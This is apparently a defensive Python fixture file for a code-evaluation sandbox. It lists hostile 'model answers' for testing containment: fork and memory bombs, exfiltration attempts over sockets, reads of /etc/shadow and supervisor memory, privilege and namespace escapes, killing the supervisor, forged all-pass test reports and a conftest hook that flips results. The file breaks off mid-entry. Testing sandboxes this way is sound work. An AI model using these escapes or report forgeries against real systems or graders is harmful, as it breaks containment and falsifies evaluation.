"""The hostile-program table: broken or hostile model answers and the record each must get.

Every program is a realistic model answer (chat text, a ``# subject.py`` block and a
``# test_subject.py`` block) for the prompt ``hostile`` (module ``subject.py``) or
``hostile_ref`` (the same module name, plus hidden reference tests). ``test_hostile.py``
runs them all through ``codeeval run`` in one batch and checks each record.

Placeholders filled in at run time: ``@TOKEN@`` (a random hex string unique to the test
session, used in every host-looking path a program tries to write), ``@CANARY@`` (a host
file with random content the programs try to read), ``@CANARY_DIR@`` (its directory) and
``@PORT@`` (a TCP listener on the host's loopback); ``@FORGED@`` is an all-pass JUnit
report for the report-forging programs.

Design rule: a breach must show as a *different status*. Either the program asserts the
attack worked (so a sound sandbox gives ``failed`` for the reason in ``why``), or it
asserts the attack was refused (so a sound sandbox gives ``passed``).

Nothing here is executed on the host: the strings are only ever sent into the sandbox.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, replace

ADD = '''
def add(a, b):
    """Return the sum of a and b."""
    return a + b
'''
WRONG_ADD = '''
def add(a, b):
    """Return the sum of a and b."""
    return a - b
'''

#: Hidden reference tests of the prompt ``hostile_ref``; a correct ``add`` passes all three.
REFERENCE_TESTS = """
from subject import add

def test_add_small():
    assert add(2, 3) == 5

def test_add_negative():
    assert add(-1, 1) == 0

def test_add_large():
    assert add(10, 5) == 15
"""

#: What THREATS.md allows where it says "failed or timeout" etc. is narrowed to the
#: status observed on the real sandbox; ``finding`` marks a program whose real outcome
#: is outside what the catalogue allows (kept failing as a strict xfail).
FINDING_OWN = (
    "in-process forgery of the model's own suite: its module runs inside the pytest process "
    "that writes the report (the hidden reference suite is not affected); tracked"
)


@dataclass(frozen=True)
class Program:
    name: str
    """The sample's ``model``: unique, the key of its record."""
    row: str
    """The THREATS.md row (or the attack) the program exercises."""
    tests: str
    module: str = ADD
    expect: tuple[str, ...] = ("failed",)
    """Allowed statuses of ``suite``, narrowed to what the real sandbox gives."""
    suite: str = "own"
    """``own``, ``reference``, or ``execution`` (the sample-level status)."""
    why: str = ""
    """A substring of the suite's detail or output tail: the status is for this reason."""
    counts: tuple[int, int] | None = None
    """(passed, failed) that must stand."""
    also: dict[str, tuple[str, ...]] | None = None
    """Statuses of other suites of the same record."""
    rejects: str = ""
    """A file name that must be listed in ``parse.rejections``."""
    parse: str = "ok"
    extra: str = ""
    """Markdown appended to the answer (config files, a conftest block, a helper)."""
    module_file: str = "subject.py"
    test_file: str = "test_subject.py"
    finding: str = ""
    """Set when the real outcome is outside the catalogue: strict xfail with this reason."""

    @property
    def prompt(self) -> str:
        return "hostile_ref" if self.suite == "reference" or self.also else "hostile"


def answer(program: Program) -> str:
    """A realistic chat answer holding the program."""
    module = textwrap.dedent(program.module).strip("\n")
    tests = textwrap.dedent(program.tests).strip("\n")
    parts = [
        f"Sure! Below is `{program.module_file}` ({program.row}) together with a pytest suite.",
        "",
        "```python",
        f"# {program.module_file}",
        module,
        "```",
        "",
        "And the tests:",
        "",
        "```python",
        f"# {program.test_file}",
        tests,
        "```",
        "",
    ]
    if program.extra:
        parts += [textwrap.dedent(program.extra).strip("\n"), ""]
    parts.append("Run them with `pytest -q`. Let me know if you need anything else!")
    return "\n".join(parts) + "\n"


def _fill(text: str, values: dict[str, str]) -> str:
    for key, value in {**values, "FORGED": _FORGED}.items():
        text = text.replace(f"@{key}@", value)
    return text


def filled(program: Program, values: dict[str, str]) -> Program:
    return replace(
        program,
        tests=_fill(program.tests, values),
        module=_fill(program.module, values),
        extra=_fill(program.extra, values),
    )


P = Program
PROGRAMS: list[Program] = []


def register(*programs: Program) -> None:
    PROGRAMS.extend(programs)


# ------------------------------------------------------------------ resources

register(
    P(
        "fork_bomb",
        "fork bomb",
        """
        import os, time
        from subject import add

        def test_add():
            assert add(1, 2) == 3

        def test_fork_bomb():
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        """,
        expect=("timeout",),
        why="killed at the deadline",
    ),
    P(
        "fork_until_eagain",
        "fork bomb that stops at the first refused fork",
        """
        import os, time
        from subject import add

        def test_spawn_workers():
            workers = []
            while len(workers) < 100000:
                pid = os.fork()
                if pid == 0:
                    time.sleep(60)
                    os._exit(0)
                workers.append(pid)
            assert add(len(workers), 0) == 100000
        """,
        why="BlockingIOError",
        counts=(0, 1),
    ),
    P(
        "thread_bomb",
        "thread bomb",
        """
        import threading, time
        from subject import add

        def test_thread_pool():
            threads = []
            while len(threads) < 100000:
                t = threading.Thread(target=time.sleep, args=(60,))
                t.start()
                threads.append(t)
            assert add(len(threads), 0) == 100000
        """,
        why="can't start new thread",
    ),
    P(
        "memory_bomb",
        "memory bomb",
        """
        from subject import add

        def test_cache_everything():
            cache = []
            while True:
                cache.append(b"\\xff" * (16 << 20))
            assert add(1, 1) == 2
        """,
        expect=("oom",),
        why="out-of-memory",
    ),
    P(
        "memory_bomb_in_child",
        "memory bomb in a child process while pytest survives",
        """
        import os
        from subject import add

        def test_add():
            assert add(2, 2) == 4

        def test_worker_process():
            pid = os.fork()
            if pid == 0:
                hog = []
                while True:
                    hog.append(b"\\xff" * (16 << 20))
            _, status = os.waitpid(pid, 0)
            assert os.waitstatus_to_exitcode(status) == 0
        """,
        why="-9",
        counts=(1, 1),
    ),
    P(
        "infinite_loop",
        "infinite loop",
        """
        from subject import add

        def test_converges():
            x = 0
            while add(x, 1) != 0:
                x = add(x, 1)
        """,
        expect=("timeout",),
        why="killed at the deadline",
    ),
    P(
        "sleep_ignoring_signals",
        "sleep past the deadline ignoring SIGTERM/SIGINT/SIGHUP",
        """
        import signal, time
        from subject import add

        def test_slow_add():
            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(sig, signal.SIG_IGN)
            time.sleep(3600)
            assert add(1, 1) == 2
        """,
        expect=("timeout",),
        why="killed at the deadline",
    ),
    P(
        "stdout_flood_os_write",
        "infinite stdout through os.write, captured by pytest",
        """
        import os
        from subject import add

        def test_verbose():
            chunk = b"spam " * 13107
            while True:
                os.write(1, chunk)
            assert add(1, 1) == 2
        """,
        counts=(0, 1),
    ),
    P(
        "stdout_flood_print",
        "infinite stdout through print, captured by pytest",
        """
        from subject import add

        def test_verbose():
            while True:
                print("eggs " * 200, add(1, 1))
        """,
        counts=(0, 1),
    ),
    P(
        "stdout_flood_uncaptured",
        "infinite stdout with pytest's capture turned off",
        """
        import os
        from subject import add

        def test_verbose(capsys):
            chunk = b"ham " * 16384
            with capsys.disabled():
                while True:
                    os.write(1, chunk)
            assert add(1, 1) == 2
        """,
        expect=("failed", "timeout"),
    ),
    P(
        "stdout_trickle_past_deadline",
        "endless output slow enough to stay under every size cap",
        """
        import os, time
        from subject import add

        def test_progress_bar():
            i = 0
            while True:
                os.write(2, b"\\r[" + b"#" * (i % 70) + b"]")
                i = add(i, 1)
                time.sleep(0.001)
        """,
        expect=("timeout",),
    ),
    P(
        "fill_tmp",
        "fill /tmp",
        """
        from subject import add

        def test_write_scratch():
            for i in range(64):
                with open(f"/tmp/scratch-{i}", "wb") as fh:
                    fh.write(b"x" * (8 << 20))
            assert add(1, 1) == 2
        """,
        why="No space left on device",
    ),
    P(
        "fill_dev_shm",
        "fill /dev/shm",
        """
        from subject import add

        def test_write_shared_memory():
            for i in range(64):
                with open(f"/dev/shm/segment-{i}", "wb") as fh:
                    fh.write(b"x" * (4 << 20))
            assert add(1, 1) == 2
        """,
        why="No space left on device",
    ),
    P(
        "fill_workdir",
        "fill the working directory",
        """
        from subject import add

        def test_write_dataset():
            for i in range(64):
                with open(f"dataset-{i}.bin", "wb") as fh:
                    fh.write(b"x" * (8 << 20))
            assert add(1, 1) == 2
        """,
    ),
    P(
        "one_huge_file",
        "one huge file",
        """
        from subject import add

        def test_write_big_file():
            with open("big.bin", "wb") as fh:
                fh.write(b"x" * (200 << 20))
            assert add(1, 1) == 2
        """,
        why="File too large",
    ),
    P(
        "many_small_files_workdir",
        "many small files in the working directory",
        """
        from subject import add

        def test_many_files():
            for i in range(500000):
                with open(f"part-{i}.txt", "w") as fh:
                    fh.write(str(add(i, 1)))
        """,
    ),
    P(
        "many_small_files_tmp",
        "many small files in /tmp",
        """
        from subject import add

        def test_many_files():
            for i in range(500000):
                with open(f"/tmp/part-{i}.txt", "w") as fh:
                    fh.write(str(add(i, 1)))
        """,
        why="No space left on device",
    ),
    P(
        "fd_exhaustion",
        "file-descriptor exhaustion",
        """
        from subject import add

        handles = []

        def test_open_everything():
            while True:
                handles.append(open("/dev/null"))
            assert add(1, 1) == 2
        """,
        expect=("no_results",),
        why="wrote no report",
    ),
    P(
        "deep_recursion",
        "deep recursion with a raised limit",
        """
        import sys
        from subject import add

        def depth(n):
            return add(depth(n + 1), 1)

        def test_deep():
            sys.setrecursionlimit(10**8)
            assert depth(0) > 0
        """,
        expect=("oom",),
    ),
    P(
        "setsid_fork_storm",
        "os.setsid + os.fork storm of detached processes",
        """
        import os, time
        from subject import add

        def test_detached_workers():
            started = 0
            for _ in range(40):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    os.setsid()
                    for _ in range(4):
                        try:
                            if os.fork() == 0:
                                while True:
                                    time.sleep(0.5)
                        except OSError:
                            pass
                    os._exit(0)
                os.waitpid(pid, 0)
                started = add(started, 1)
            assert started > 0
        """,
        expect=("passed",),
    ),
    P(
        "huge_argv",
        "a 16 MiB argument vector",
        """
        import subprocess
        from subject import add

        def test_spawn_with_huge_argv():
            arg = "x" * (16 << 20)
            result = subprocess.run(["/bin/true", arg])
            assert add(result.returncode, 0) == 0
        """,
        why="Argument list too long",
    ),
)

# ------------------------------------------------------------------ network

register(
    P(
        "connect_host_loopback",
        "network connect to a listener on the host's loopback",
        """
        import socket
        from subject import add

        def test_report_home():
            conn = socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
            conn.sendall(b"exfiltrated %d" % add(1, 1))
            conn.close()
        """,
        why="ConnectionRefusedError",
    ),
    P(
        "connect_docker_gateway",
        "network connect to the Docker bridge gateway (refusal asserted)",
        """
        import errno, socket
        import pytest
        from subject import add

        @pytest.mark.parametrize("host", ["172.17.0.1", "10.0.2.2", "192.168.1.1"])
        def test_no_route(host):
            with pytest.raises(OSError) as info:
                socket.create_connection((host, @PORT@), timeout=3)
            assert info.value.errno == errno.ENETUNREACH
            assert add(1, 1) == 2
        """,
        expect=("passed",),
        counts=(3, 0),
    ),
    P(
        "dns_lookup",
        "DNS lookup",
        """
        import socket
        from subject import add

        def test_resolve():
            infos = socket.getaddrinfo("example.com", 443)
            assert add(len(infos), 0) > 0
        """,
        why="gaierror",
    ),
    P(
        "udp_exfiltration",
        "UDP datagram to a public resolver",
        """
        import socket
        from subject import add

        def test_send_datagram():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sent = s.sendto(b"leak-@TOKEN@", ("8.8.8.8", 53))
            assert add(sent, 0) > 0
        """,
        why="Network is unreachable",
    ),
    P(
        "docker_socket",
        "connect to the Docker engine's unix socket",
        """
        import socket
        from subject import add

        def test_engine_socket():
            s = socket.socket(socket.AF_UNIX)
            s.connect("/var/run/docker.sock")
            s.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
            assert add(len(s.recv(100)), 0) > 0
        """,
        why="FileNotFoundError",
    ),
    P(
        "only_loopback_interface",
        "list network interfaces (only lo asserted)",
        """
        import os
        from subject import add

        def test_interfaces():
            assert sorted(os.listdir("/sys/class/net")) == ["lo"]
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
)

# ------------------------------------------------------------------ secrets

register(
    P(
        "read_etc_shadow",
        "read /etc/shadow",
        """
        from subject import add

        def test_shadow():
            with open("/etc/shadow") as fh:
                assert add(len(fh.read()), 0) > 0
        """,
        why="PermissionError",
    ),
    P(
        "print_environment",
        "print the environment (only codeeval's variables asserted)",
        """
        import os
        from subject import add

        def test_environment(capsys):
            with capsys.disabled():
                for key, value in sorted(os.environ.items()):
                    print(f"{key}={value}")
            allowed = {"PATH", "HOME", "TMPDIR", "LANG", "PYTHONDONTWRITEBYTECODE",
                       "PYTEST_DISABLE_PLUGIN_AUTOLOAD", "PYTEST_CURRENT_TEST"}
            assert set(os.environ) <= allowed
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "read_proc1_environ",
        "read /proc/1/environ",
        """
        from subject import add

        def test_init_environment():
            with open("/proc/1/environ", "rb") as fh:
                assert add(len(fh.read()), 0) > 0
        """,
        why="PermissionError",
    ),
    P(
        "read_supervisor_memory",
        "read the supervisor's environment and memory",
        """
        import os
        from subject import add

        def test_parent_environment():
            with open(f"/proc/{os.getppid()}/environ", "rb") as fh:
                assert add(len(fh.read()), 0) > 0

        def test_parent_memory():
            with open(f"/proc/{os.getppid()}/mem", "rb") as fh:
                assert add(len(fh.read(1)), 0) > 0
        """,
        why="PermissionError",
        counts=(0, 2),
    ),
    P(
        "read_host_canary",
        "read a host file by its host path",
        """
        from subject import add

        def test_host_file():
            with open("@CANARY@") as fh:
                assert add(len(fh.read()), 0) > 0
        """,
        why="FileNotFoundError",
    ),
)

# ------------------------------------------------------------------ writes

for _name, _path in (
    ("write_etc", "/etc/codeeval-escape-@TOKEN@"),
    ("write_usr", "/usr/codeeval-escape-@TOKEN@"),
    ("write_root", "/codeeval-escape-@TOKEN@"),
    ("write_opt_codeeval", "/opt/codeeval/supervisor.py"),
    ("write_var_tmp", "/var/tmp/codeeval-escape-@TOKEN@"),
):
    register(
        P(
            _name,
            f"write to {_path.rsplit('/', 1)[0] or '/'}",
            f"""
            from subject import add

            def test_persist():
                with open("{_path}", "w") as fh:
                    fh.write("escaped %d" % add(1, 1))
            """,
            why="Read-only file system",
        )
    )

register(
    P(
        "write_host_looking_paths",
        "write to host-looking paths (the host canary's directory; host file unseen asserted)",
        """
        import os
        from subject import add

        def test_drop_files():
            for path in ("/tmp/codeeval-escape-@TOKEN@", "/dev/shm/codeeval-escape-@TOKEN@"):
                with open(path, "w") as fh:
                    fh.write("lands in the sandbox's own tmpfs")
            assert not os.path.exists("@CANARY@"), "the host's file is visible"
            os.makedirs("@CANARY_DIR@", exist_ok=True)
            with open("@CANARY_DIR@/escape-@TOKEN@", "w") as fh:
                fh.write("escaped %d" % add(1, 1))
        """,
        expect=("passed",),
    ),
    P(
        "exec_from_tmp",
        "write a script to /tmp and execute it (noexec)",
        """
        import os, subprocess
        from subject import add

        def test_run_helper():
            with open("/tmp/helper.sh", "w") as fh:
                fh.write("#!/bin/sh\\necho hi\\n")
            os.chmod("/tmp/helper.sh", 0o755)
            result = subprocess.run(["/tmp/helper.sh"], capture_output=True)
            assert add(result.returncode, 0) == 0
        """,
        why="PermissionError",
    ),
)

# ------------------------------------------------------------------ privileges

#: ctypes preamble, indented like the triple-quoted test bodies it is prepended to.
LIBC = """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
"""

register(
    P(
        "setuid_root",
        "setuid(0)",
        """
        import os
        from subject import add

        def test_become_root():
            os.setuid(0)
            assert add(os.getuid(), 0) == 0
        """,
        why="PermissionError",
    ),
    P(
        "su_root",
        "su to root (set-uid binary under no-new-privileges)",
        """
        import subprocess
        from subject import add

        def test_su():
            result = subprocess.run(["su", "-c", "id -u"], capture_output=True, text=True,
                                    stdin=subprocess.DEVNULL, timeout=3)
            assert result.stdout.strip() == str(add(0, 0))
        """,
        why="assert '' == '0'",
    ),
    P(
        "mount_tmpfs",
        "mount(2) via ctypes",
        LIBC
        + """
        from subject import add

        def test_mount():
            rc = libc.mount(b"none", b"/box", b"tmpfs", 0, None)
            assert add(rc, 0) == 0, os.strerror(ctypes.get_errno())
        """,
        why="Operation not permitted",
    ),
    P(
        "unshare_namespaces",
        "unshare(2) of user and mount namespaces via ctypes",
        LIBC
        + """
        from subject import add

        def test_unshare():
            rc = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
            assert add(rc, 0) == 0, os.strerror(ctypes.get_errno())
        """,
        why="Operation not permitted",
    ),
    P(
        "keyctl_syscall",
        "keyctl(2) via ctypes",
        LIBC
        + """
        from subject import add

        def test_session_keyring():
            ring = libc.syscall(250, 0, -3, 1)  # KEYCTL_GET_KEYRING_ID, session, create
            assert add(ring, 0) >= 0, os.strerror(ctypes.get_errno())
        """,
        why="Operation not permitted",
    ),
    P(
        "bpf_syscall",
        "bpf(2) map creation via ctypes",
        LIBC
        + """
        from subject import add

        def test_bpf_map():
            attr = (ctypes.c_uint32 * 32)(2, 4, 4, 1)  # BPF_MAP_TYPE_ARRAY, 4, 4, 1
            fd = libc.syscall(321, 0, ctypes.byref(attr), ctypes.sizeof(attr))
            assert add(fd, 0) >= 0, os.strerror(ctypes.get_errno())
        """,
        why="Operation not permitted",
    ),
    P(
        "perf_event_open",
        "perf_event_open(2) via ctypes",
        LIBC
        + """
        from subject import add

        def test_perf_counter():
            attr = (ctypes.c_uint32 * 32)()
            attr[0] = 1  # PERF_TYPE_SOFTWARE
            attr[1] = 128  # size
            fd = libc.syscall(298, ctypes.byref(attr), 0, -1, -1, 0)
            assert add(fd, 0) >= 0, os.strerror(ctypes.get_errno())
        """,
        why="Operation not permitted",
    ),
    P(
        "chroot",
        "os.chroot",
        """
        import os
        from subject import add

        def test_chroot():
            os.chroot("/tmp")
            assert add(1, 1) == 2
        """,
        why="PermissionError",
    ),
    P(
        "raise_rlimits",
        "resource.setrlimit raising hard limits",
        """
        import resource
        from subject import add

        def test_more_processes():
            for which in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
                soft, hard = resource.getrlimit(which)
                if hard != resource.RLIM_INFINITY:
                    resource.setrlimit(which, (add(hard, 1), add(hard, 1)))
        """,
        why="ValueError",
    ),
    P(
        "ambient_capability_raise",
        "prctl(PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN) via ctypes",
        LIBC
        + """
        from subject import add

        def test_raise_capability():
            rc = libc.prctl(47, 2, 21, 0, 0)  # PR_CAP_AMBIENT, RAISE, CAP_SYS_ADMIN
            assert add(rc, 0) == 0, os.strerror(ctypes.get_errno())
        """,
        why="Operation not permitted",
    ),
    P(
        "lower_oom_score",
        "make itself unkillable by the OOM killer",
        """
        from subject import add

        def test_protect_from_oom():
            with open("/proc/self/oom_score_adj", "w") as fh:
                fh.write(str(add(-1000, 0)))
        """,
        why="PermissionError",
    ),
    P(
        "renice_negative",
        "raise its own scheduling priority",
        """
        import os
        from subject import add

        def test_priority():
            os.nice(add(-10, -10))
        """,
        why="PermissionError",
    ),
    P(
        "sysrq_trigger",
        "open /proc/sysrq-trigger for writing (nothing is written)",
        """
        import os
        from subject import add

        def test_sysrq():
            fd = os.open("/proc/sysrq-trigger", os.O_WRONLY)
            os.close(fd)
            assert add(1, 1) == 2
        """,
        why="FileNotFoundError",
    ),
    P(
        "cgroup_memory_write",
        "raise its own cgroup memory limit through /sys",
        """
        from subject import add

        def test_more_memory():
            for path in ("/sys/fs/cgroup/memory/memory.limit_in_bytes",
                         "/sys/fs/cgroup/memory.max"):
                try:
                    fh = open(path, "w")
                except FileNotFoundError:
                    continue
                with fh:
                    fh.write(str(add(1 << 40, 0)))
                return
            raise AssertionError("no cgroup memory file found")
        """,
        why="Read-only file system",
    ),
    P(
        "proc_sys_write",
        "write a kernel parameter under /proc/sys",
        """
        from subject import add

        def test_tune_kernel():
            with open("/proc/sys/kernel/core_pattern", "w") as fh:
                fh.write("|/tmp/evil %d" % add(1, 1))
        """,
        why="Read-only file system",
    ),
    P(
        "mknod_block_device",
        "mknod a block device",
        """
        import os, stat
        from subject import add

        def test_device_node():
            os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, add(0, 0)))
        """,
        why="PermissionError",
    ),
    P(
        "setns_init",
        "join init's mount namespace via /proc/1/ns",
        LIBC
        + """
        import os
        from subject import add

        def test_setns():
            fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
            assert add(libc.setns(fd, 0), 0) == 0, os.strerror(ctypes.get_errno())
        """,
        why="PermissionError",
    ),
    P(
        "ptrace_supervisor",
        "ptrace attach to the supervisor",
        LIBC
        + """
        import os
        from subject import add

        def test_attach_parent():
            rc = libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH
            assert add(rc, 0) == 0, os.strerror(ctypes.get_errno())

        def test_attach_init():
            rc = libc.ptrace(0x4206, 1, None, None)  # PTRACE_SEIZE
            assert add(rc, 0) == 0, os.strerror(ctypes.get_errno())
        """,
        why="Operation not permitted",
        counts=(0, 2),
    ),
    P(
        "signal_supervisor",
        "signal the supervisor",
        """
        import os, signal
        from subject import add

        def test_stop_parent():
            os.kill(os.getppid(), signal.SIGSTOP)
            assert add(1, 1) == 2
        """,
        why="PermissionError",
    ),
)

_KILL_TAIL = """

        def test_add():
            assert add(2, 2) == 4

        def test_add_wrong():
            assert add(2, 2) == 5
"""

register(
    P(
        "kill_pid1",
        "kill PID 1",
        """
        import os, signal
        from subject import add

        def test_kill_init():
            for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
                try:
                    os.kill(1, sig)
                except OSError:
                    pass
        """
        + _KILL_TAIL,
        counts=(2, 1),
    ),
    P(
        "kill_parent",
        "kill the parent (the supervisor)",
        """
        import os, signal
        from subject import add

        def test_kill_parent():
            for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                try:
                    os.kill(os.getppid(), sig)
                except OSError:
                    pass
        """
        + _KILL_TAIL,
        counts=(2, 1),
    ),
    P(
        "kill_every_root_process",
        "kill every root process",
        """
        import os, signal
        from subject import add

        def test_kill_roots():
            for name in os.listdir("/proc"):
                if name.isdigit() and os.stat(f"/proc/{name}").st_uid == 0:
                    for sig in (signal.SIGKILL, signal.SIGSTOP):
                        try:
                            os.kill(int(name), sig)
                        except OSError:
                            pass
        """
        + _KILL_TAIL,
        counts=(2, 1),
    ),
    P(
        "kill_minus_one",
        "kill(-1, SIGKILL): every process it may signal, pytest included",
        """
        import os, signal
        from subject import add

        def test_add():
            assert add(2, 2) == 4

        def test_scorched_earth():
            os.kill(-1, signal.SIGKILL)  # spares the caller: nothing else of the box runs
            assert add(1, 1) == 2
        """,
        expect=("passed",),
        counts=(2, 0),
    ),
)

# ------------------------------------------------------------------ leftovers

register(
    P(
        "double_fork_daemon",
        "double-forked daemon outliving the test",
        """
        import os, time
        from subject import add

        def test_start_service():
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True:
                        with open("/tmp/daemon-heartbeat", "a") as fh:
                            fh.write("alive\\n")
                        time.sleep(0.05)
                os._exit(0)
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "zombies",
        "zombies left unreaped",
        """
        import os
        from subject import add

        def test_spawn_and_forget():
            for _ in range(20):
                if os.fork() == 0:
                    os._exit(0)
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "shm_reader_daemon",
        "write into /dev/shm and leave a background process reading it",
        """
        import os, subprocess, sys
        from subject import add

        READER = ("import time\\nwhile True:\\n"
                  "    open('/dev/shm/codeeval-mailbox').read()\\n    time.sleep(0.05)\\n")

        def test_mailbox():
            with open("/dev/shm/codeeval-mailbox", "w") as fh:
                fh.write("hello %d" % add(1, 1))
            subprocess.Popen([sys.executable, "-c", READER], start_new_session=True)
        """,
        expect=("passed",),
    ),
    P(
        "sysv_ipc_leftovers",
        "create SysV shared memory, message queues and semaphores and leave them",
        LIBC
        + """
        from subject import add

        def test_ipc():
            assert libc.shmget(0x5EED, 1 << 20, 0o1666) >= 0
            assert libc.msgget(0x5EED, 0o1666) >= 0
            assert libc.semget(0x5EED, 4, 0o1666) >= 0
            assert libc.shmget(0, 1 << 20, 0o1600) >= 0  # IPC_PRIVATE
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "chmod_000_tree",
        "chmod 000 its own files and directories to block the clean-up",
        """
        import os
        from subject import add

        def test_lock_down():
            for top in (".", "/tmp", "/dev/shm"):
                d = os.path.join(top, "locked")
                os.makedirs(os.path.join(d, "inner"))
                with open(os.path.join(d, "inner", "f"), "w") as fh:
                    fh.write("x")
                os.chmod(os.path.join(d, "inner", "f"), 0)
                os.chmod(os.path.join(d, "inner"), 0)
                os.chmod(d, 0)
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "chmod_box_dir_after_report",
        "chmod 000 the box directory once pytest has written the report",
        """
        import os
        from subject import add

        def test_add(request):
            box = os.getcwd()
            request.config.add_cleanup(lambda: os.chmod(box, 0))
            assert add(1, 1) == 3
        """,
        expect=("results_rejected",),
        why="EACCES",
    ),
    P(
        "chmod_shared_dirs",
        "chmod the shared scratch directories",
        """
        import os
        from subject import add

        def test_open_up():
            for d in ("/tmp", "/dev/shm", "/box"):
                os.chmod(d, add(0o700, 0))
        """,
        why="PermissionError",
    ),
    P(
        "listener_daemon",
        "leave TCP and abstract unix-socket listeners behind",
        """
        import os, socket, time
        from subject import add

        def test_serve():
            if os.fork() == 0:
                os.setsid()
                tcp = socket.socket()
                tcp.bind(("127.0.0.1", 45678))
                tcp.listen(5)
                unix = socket.socket(socket.AF_UNIX)
                unix.bind(b"\\0codeeval-leak")
                unix.listen(5)
                while True:
                    time.sleep(1)
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "squat_future_box_dirs",
        "create the directories later boxes will use",
        """
        import os
        from subject import add

        def test_squat():
            me = os.getuid()
            for uid in range(me + 1, me + 40):
                path = f"/box/b{uid}"
                os.mkdir(path)
                os.chmod(path, 0o777)
                with open(os.path.join(path, "test_subject.py"), "w") as fh:
                    fh.write("def test_planted():\\n    pass\\n")
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "read_other_boxes",
        "read other boxes' directories (refusal asserted)",
        """
        import os
        from subject import add

        def test_only_my_box():
            mine = os.path.basename(os.getcwd())
            for name in os.listdir("/box"):
                if name != mine:
                    try:
                        found = os.listdir(os.path.join("/box", name))
                    except PermissionError:
                        continue
                    assert found == [], (name, found)
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
)

# ------------------------------------------------------------------ exits and forged reports

_CLEANUP = """
import os
from subject import add, tamper

def test_add(request):
    request.config.add_cleanup(tamper)
    assert add(1, 1) == 3

def test_add_more():
    assert add(2, 2) == 5
"""

_FORGED = (
    '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" tests="2" '
    'errors="0" failures="0" skipped="0"><testcase classname="test_subject" name="test_add"/>'
    '<testcase classname="test_subject" name="test_add_more"/></testsuite></testsuites>'
)


def _tamper(body: str) -> str:
    return (
        ADD
        + "\n\nimport os\n\nREPORT = '.codeeval-junit.xml'\nFORGED = "
        + repr(_FORGED)
        + "\n\n\ndef tamper():\n"
        + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
        + "\n"
    )


register(
    P(
        "os_exit_in_test",
        "os._exit(0) in a test",
        """
        import os
        from subject import add

        def test_add():
            assert add(1, 1) == 3

        def test_exit():
            os._exit(0)
        """,
        expect=("no_results",),
        why="wrote no report",
    ),
    P(
        "sys_exit_in_test",
        "sys.exit(0) in a test",
        """
        import sys
        from subject import add

        def test_exit():
            sys.exit(add(0, 0))
        """,
        why="SystemExit",
    ),
    P(
        "atexit_forged_report",
        "forge an all-pass report at atexit",
        """
        import atexit, os
        from subject import add

        FORGED = '''@FORGED@'''

        def forge():
            with open(".codeeval-junit.xml", "w") as fh:
                fh.write(FORGED)
            os._exit(0)

        atexit.register(forge)

        def test_add():
            assert add(1, 1) == 3

        def test_add_more():
            assert add(2, 2) == 5
        """,
        counts=(0, 2),
    ),
    P(
        "cleanup_forged_report",
        "overwrite the report with an all-pass one after pytest wrote it",
        _CLEANUP,
        module=_tamper(
            """
            with open(REPORT, "w") as fh:
                fh.write(FORGED)
            """
        ),
        expect=("results_rejected",),
        why="no failure",
    ),
    P(
        "pytest_exit_zero",
        "pytest.exit(returncode=0) before the failing tests",
        """
        import pytest
        from subject import add

        def test_add():
            assert add(1, 1) == 2

        def test_stop_here():
            pytest.exit("done", returncode=0)

        def test_add_wrong():
            assert add(1, 1) == 3
        """,
        expect=("results_rejected",),
        why="the test file defines at least 3",
    ),
    P(
        "keyboard_interrupt_via_alarm",
        "signal.alarm raising KeyboardInterrupt mid-run",
        """
        import signal, time
        from subject import add

        def _interrupt(signum, frame):
            raise KeyboardInterrupt

        def test_slow():
            signal.signal(signal.SIGALRM, _interrupt)
            signal.alarm(1)
            time.sleep(3)

        def test_add_wrong():
            assert add(1, 1) == 3
        """,
        why="interrupted",
    ),
    P(
        "alarm_os_exit",
        "signal.alarm handler calling os._exit(0) mid-test",
        """
        import os, signal, time
        from subject import add

        def test_slow():
            signal.signal(signal.SIGALRM, lambda *_: os._exit(0))
            signal.alarm(1)
            time.sleep(3)
            assert add(1, 1) == 3
        """,
        expect=("no_results",),
        why="wrote no report",
    ),
    P(
        "skip_everything",
        "every test skipped",
        """
        import pytest
        from subject import add

        pytestmark = pytest.mark.skip(reason="flaky on CI")

        def test_add():
            assert add(1, 1) == 3

        def test_add_more():
            assert add(2, 2) == 5
        """,
        expect=("no_tests",),
        why="skipped",
    ),
)

# ------------------------------------------------------------------ pytest's configuration

_FAILING = """
from subject import add

def test_add():
    assert add(1, 1) == 3

def test_add_more():
    assert add(2, 2) == 5
"""

register(
    P(
        "conftest_hook",
        "conftest.py hook flipping every outcome to passed",
        _FAILING,
        extra="""
        And a small `conftest.py` so the suite is stable on CI:

        ```python
        # conftest.py
        import pytest

        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(item, call):
            outcome = yield
            report = outcome.get_result()
            report.outcome = "passed"
            report.longrepr = None
        ```
        """,
        counts=(0, 2),
        rejects="conftest.py",
    ),
    P(
